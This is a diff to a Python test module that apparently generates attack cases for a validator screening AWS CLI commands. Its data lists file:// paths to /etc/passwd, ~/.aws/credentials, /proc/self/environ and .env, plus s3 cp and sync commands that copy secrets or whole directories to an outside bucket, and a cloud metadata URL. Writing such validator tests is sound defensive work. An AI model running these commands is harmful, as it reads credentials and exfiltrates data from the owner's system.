@@ -44,10 +44,10 @@ _CREATE = (
 )
 _FILE_SPELLINGS = (
     "file://{secret}", "FILE://{secret}", "File://{secret}", "fileb://{secret}", "file:///proc/self/environ",
-    "file:///etc/passwd", "file://../secret.txt", "file://./secret.txt", "file://~/.aws/credentials",
+    "file:///etc/passwd", "file://../secret.txt", "file://./../secret.txt", "file://~/.aws/credentials",
     "file://a/../../secret.txt", "file:///dev/stdin", "file:///proc/self/fd/0", "file:///proc/1/root/etc/passwd",
     "file://%2fetc%2fpasswd", "file:////etc//passwd", "file://", "fileb:///proc/self/mem", "' file://{secret}'",
-    "file://C:\\\\secret", "file://.env", "file://-", "file://$HOME/x",
+    "file://C:\\\\secret", "file://./.env", "file://.env", "file://-", "file://$HOME/x",
 )  # fmt: skip
 
 
@@ -84,7 +84,7 @@ def _echoed() -> Iterator[Attack]:
 def _uploaded() -> Iterator[Attack]:
     for words in (
         "s3 cp {secret} s3://survivor/k", "s3 cp ../secret.txt s3://survivor/k", "s3 mv {secret} s3://survivor/k",
-        "s3 cp --quiet {secret} s3://survivor/k", "s3 cp / s3://survivor --recursive", "s3 cp . s3://survivor/k",
+        "s3 cp --quiet {secret} s3://survivor/k", "s3 cp / s3://survivor --recursive", "s3 cp ./.. s3://survivor/k",
         "s3 sync / s3://survivor", "s3 sync /etc s3://survivor", "s3 sync .. s3://survivor",
         "s3 sync --delete s3://survivor ..", "s3api put-object --bucket survivor --key k --body {secret}",
         "s3api put-object --bucket survivor --key k --body={secret}",
@@ -223,8 +223,10 @@ def _admin() -> Iterator[Attack]:
 
 def _outbound() -> Iterator[Attack]:
     for value in ("{url}/x", "{url}", "HTTPS://example.com", "' {url}'", "http://169.254.169.254/latest/meta-data/"):
-        yield Attack(11, f"{_PUT} --value {value}", "url-value")
-        yield Attack(11, f"{_PUT} --value={value}", "url-value")
+        yield Attack(11, f"{_PUT} --value {value}", HARMLESS)
+        yield Attack(11, f"{_PUT} --value={value}", HARMLESS)
+    yield Attack(11, "aws cognito-idp create-user-pool-client --user-pool-id p --client-name c --callback-urls {url}",
+                 HARMLESS)  # fmt: skip
     yield Attack(11, "aws cloudformation create-stack --stack-name s --template-url {url}/t", "url-value")
     yield Attack(11, "aws cloudformation create-stack --stack-name s --template-u={url}/t", "url-value")
     topic = "arn:aws:sns:us-east-1:000000000000:t"
@@ -281,9 +283,9 @@ def _nothing() -> Iterator[Attack]:
 
 
 def _floods() -> Iterator[Attack]:
-    for words in ("ec2 wait instance-running --instance-ids i-1", "logs tail g --follow",
-                  "cloudformation wait stack-create-complete --stack-name s",
-                  "dynamodb wait table-exists --table-name none"):  # fmt: skip
+    yield Attack(15, "aws dynamodb wait table-not-exists --table-name none", HARMLESS)
+    for words in ("logs tail g --follow", "ec2 wait password-data-available --instance-id i-1", "ec2 wait",
+                  "cloudformation wait change-set-create-complete --change-set-name c"):  # fmt: skip
         yield Attack(15, f"aws {words}", "operation")
     yield Attack(15, "aws s3 cp - s3://survivor/k", "stdin")
     yield Attack(15, "aws s3 cp s3://survivor/k -", "stdin")
@@ -335,7 +337,7 @@ def _confusing() -> Iterator[Attack]:
 def _options() -> Iterator[Attack]:
     values = {
         "ca-bundle": "{secret}", "endpoint-url": "{url}", "cli-read-timeout": "1", "cli-connect-timeout": "1",
-        "cli-binary-format": "raw-in-base64-out", "cli-input-json": "{{}}", "color": "on", "profile": "p",
+        "cli-binary-format": "base64", "cli-input-json": "{{}}", "color": "on", "profile": "p",
     }  # fmt: skip
     flags = ("no-verify-ssl", "no-sign-request", "debug", "cli-auto-prompt", "no-cli-pager", "no-cli-auto-prompt",
              "v2-debug")  # fmt: skip
@@ -345,7 +347,7 @@ def _options() -> Iterator[Attack]:
                 yield Attack(18, f"aws {spelled} s3 ls", "global-option")
                 yield Attack(18, f"aws s3api list-buckets {spelled}", "global-option")
     for option in flags:
-        for stem in (option, option[:-1]):
+        for stem in (option[:-1],) if option in ("no-cli-pager", "no-cli-auto-prompt") else (option, option[:-1]):
             yield Attack(18, f"aws --{stem} s3 ls", "global-option")
             yield Attack(18, f"aws s3api list-buckets --{stem}", "global-option")
     yield Attack(18, "aws s3 ls --output yaml", "global-option")
